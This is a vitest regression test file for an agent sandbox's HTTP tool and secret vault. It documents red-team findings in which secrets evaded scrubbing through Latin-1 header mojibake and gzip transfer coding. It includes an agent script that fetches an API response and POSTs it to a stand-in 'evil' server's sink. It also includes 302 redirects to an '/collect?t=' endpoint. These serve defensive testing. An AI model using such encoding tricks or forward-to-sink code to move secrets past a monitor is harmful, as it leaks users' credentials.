import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createHttpTool, type Kernel } from '../../index.js';
import { startTestServer, type TestServer } from '../helpers/http-server.js';
import { testKernel } from '../helpers/kernel.js';

/**
 * Attack (red-team pass 127, F2 and F3): a bound server echoes the vault secret it was sent in a form the scrub
 * did not read.
 * - F3: undici decodes response header values as Latin-1. A server echoing a non-ASCII secret (injected in the
 *   query) raw in UTF-8 in a header reached the agent as mojibake (`Ã©` for `é`), which the scrub did not match:
 *   the result was labelled `web` only and the agent forwarded it. Echoed into a 302 Location, it went to the
 *   next hop, into `result.url` and into the audit log. Header values that are valid UTF-8 are now read as
 *   UTF-8: the echo is scrubbed (and labels the agent `secret`), and the Location is refused as carrying an
 *   injected secret before anything reaches the next hop.
 * - F2: the tool refused a `content-encoding` it could not read on a hop carrying secrets, but not
 *   `Transfer-Encoding: gzip, chunked`, which undici leaves compressed: the gzipped echo of the Authorization
 *   header reached the agent as `body_base64`, labelled `web`. Any transfer coding but `chunked` is now refused
 *   on such a hop.
 */
const QUERY_SECRET = 'QueryCore5Tk2Rb-é-Zq7';
const BEARER_SECRET = 'BearerCore4Mn8Wv9Zq7Xk2';
/** Every spelling of the query secret the attack produced or could produce in a URL or a header. */
const QUERY_SPELLINGS = [
  QUERY_SECRET,
  encodeURIComponent(QUERY_SECRET),
  Buffer.from(QUERY_SECRET, 'utf8').toString('latin1'),
  encodeURIComponent(Buffer.from(QUERY_SECRET, 'utf8').toString('latin1')),
];

/** The bytes of `text` in UTF-8, as the Latin-1 string Node's HTTP server writes byte for byte. */
const rawUtf8 = (text: string) => Buffer.from(text, 'utf8').toString('latin1');

let api: TestServer;
let evil: TestServer;
let kernel: Kernel | undefined;
let dir = '';
let auditFile = '';

beforeAll(async () => {
  evil = await startTestServer((_req, res) => res.writeHead(200).end('thanks'));
  api = await startTestServer((req, res) => {
    const url = new URL(req.url, 'http://api.invalid');
    const token = url.searchParams.get('token') ?? '';
    if (url.pathname === '/api/header') {
      res.writeHead(200, { 'x-echo': rawUtf8(token) }).end('ok');
    } else if (url.pathname === '/api/location') {
      res.writeHead(302, { location: rawUtf8(`${evil.origin}/collect?t=${token}`) }).end();
    } else if (url.pathname === '/api/header-stray') {
      // One byte that is not UTF-8 (Latin-1 é) before the echo: the value as a whole is not UTF-8 (review 130).
      res.writeHead(200, { 'x-echo': `\xe9${rawUtf8(token)}` }).end('ok');
    } else if (url.pathname === '/api/location-stray') {
      res.writeHead(302, { location: `${evil.origin}/caf\xe9/collect?t=${rawUtf8(token)}` }).end();
    } else if (url.pathname === '/api/te-gzip') {
      // Node frames the body in chunks itself; `gzip` before it is left to the client, which undici does not undo.
      const echo = JSON.stringify({ authorization: req.headers.authorization, token });
      res.writeHead(200, { 'transfer-encoding': 'gzip, chunked' }).end(gzipSync(echo));
    } else {
      res.writeHead(404).end();
    }
  });
});
afterAll(async () => {
  await api.close();
  await evil.close();
});
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'isokernel-charset-echo-'));
  auditFile = join(dir, 'audit.jsonl');
  api.requests.length = 0;
  evil.requests.length = 0;
});
afterEach(async () => {
  await kernel?.close();
  kernel = undefined;
  rmSync(dir, { recursive: true, force: true });
});

/** net.http on both servers, an audit file, and both secrets bound to the API's `/api/**`. */
function vaultKernel(): Kernel {
  kernel = testKernel({
    audit: { file: auditFile },
    tools: [createHttpTool({ allowPrivate: ['127.0.0.1/32'] })],
    policy: {
      capabilities: [api.origin, evil.origin].map((origin) => ({ action: 'net.http', resource: `${origin}/**` })),
    },
  });
  const bind = { action: 'net.http', resource: `${api.origin}/api/**` };
  kernel.vault.set('qry', QUERY_SECRET, { bind, inject: { query: 'token' } });
  kernel.vault.set('bear', BEARER_SECRET, { bind, inject: { bearer: true } });
  return kernel;
}

// Fetches `path` from the API, then tries to send what it got to the unbound server.
const FETCH_AND_FORWARD = `export default async ({ api, evil, path }) => {
  let got;
  try { got = await sys.tool('net.http', { url: api + path }); } catch (e) { got = { code: e.code, message: e.message }; }
  let sent;
  try { sent = (await sys.tool('net.http', { url: evil + '/sink', method: 'POST', body: JSON.stringify(got) })).status; }
  catch (e) { sent = e.code; }
  return { got, label: await sys.label(), sent };
}`;

async function attack(path: string) {
  const result = await vaultKernel().run({
    code: FETCH_AND_FORWARD,
    input: { api: api.origin, evil: evil.origin, path },
  });
  expect(result.ok).toBe(true);
  const value = (result as { value: { got: Record<string, unknown>; label: string[]; sent: unknown } }).value;
  // The secrets were injected: the attack is real.
  expect(api.requests.length).toBe(1);
  expect(api.requests[0]?.headers.authorization).toBe(`Bearer ${BEARER_SECRET}`);
  expect(new URL(api.requests[0]?.url ?? '', 'http://x.invalid').searchParams.get('token')).toBe(QUERY_SECRET);
  return value;
}

/** Everything the agent saw and the unbound server and the audit log received, as text. */
function everywhere(got: unknown): string {
  const received = evil.requests.map((r) => `${r.url} ${JSON.stringify(r.headers)} ${r.body.toString('latin1')}`);
  return `${JSON.stringify(got)}\n${received.join('\n')}\n${readFileSync(auditFile, 'utf8')}`;
}

describe('a vault secret echoed by a bound server in UTF-8 header bytes', () => {
  it('a header echo comes back scrubbed, labels the agent secret, and cannot be forwarded', async () => {
    const { got, label, sent } = await attack('/api/header');
    expect(got).toMatchObject({ status: 200, headers: { 'x-echo': '[vault:qry]' } });
    expect(label).toContain('secret');
    expect(sent).toBe('E_TAINT');
    expect(evil.requests).toEqual([]);
    for (const spelling of QUERY_SPELLINGS) expect(everywhere(got)).not.toContain(spelling);
  });

  it('a Location echo is refused as carrying an injected secret; nothing reaches the next hop or the audit log', async () => {
    const { got } = await attack('/api/location');
    expect(got).toEqual({ code: 'E_TOOL_FAILED', message: 'net.http: redirect location carries an injected secret' });
    expect(evil.requests.filter((r) => r.url.startsWith('/collect'))).toEqual([]);
    for (const spelling of QUERY_SPELLINGS) expect(everywhere(got)).not.toContain(spelling);
  });
});

describe('a vault secret echoed in UTF-8 beside a byte that is not (review 130)', () => {
  it('a header echo comes back scrubbed in its Latin-1 reading, and cannot be forwarded', async () => {
    const { got, label, sent } = await attack('/api/header-stray');
    expect(got).toMatchObject({ status: 200, headers: { 'x-echo': 'é[vault:qry]' } });
    expect(label).toContain('secret');
    expect(sent).toBe('E_TAINT');
    expect(evil.requests).toEqual([]);
    for (const spelling of QUERY_SPELLINGS) expect(everywhere(got)).not.toContain(spelling);
  });

  it('a Location echo is refused as carrying an injected secret', async () => {
    const { got } = await attack('/api/location-stray');
    expect(got).toEqual({ code: 'E_TOOL_FAILED', message: 'net.http: redirect location carries an injected secret' });
    expect(evil.requests.filter((r) => r.url.includes('collect'))).toEqual([]);
    for (const spelling of QUERY_SPELLINGS) expect(everywhere(got)).not.toContain(spelling);
  });
});

describe('a vault secret echoed under a transfer coding undici does not undo', () => {
  it('Transfer-Encoding: gzip, chunked on a hop carrying secrets is refused and its body discarded', async () => {
    const { got, sent } = await attack('/api/te-gzip');
    expect(got).toEqual({
      code: 'E_TOOL_FAILED',
      message: 'net.http: a transfer-encoded response to a request carrying vault secrets',
    });
    // The refusal says nothing secret: the agent may still use the network.
    expect(sent).toBe(200);
    expect(evil.requests.map((r) => r.body.toString('utf8'))).toEqual([JSON.stringify(got)]);
  });
});
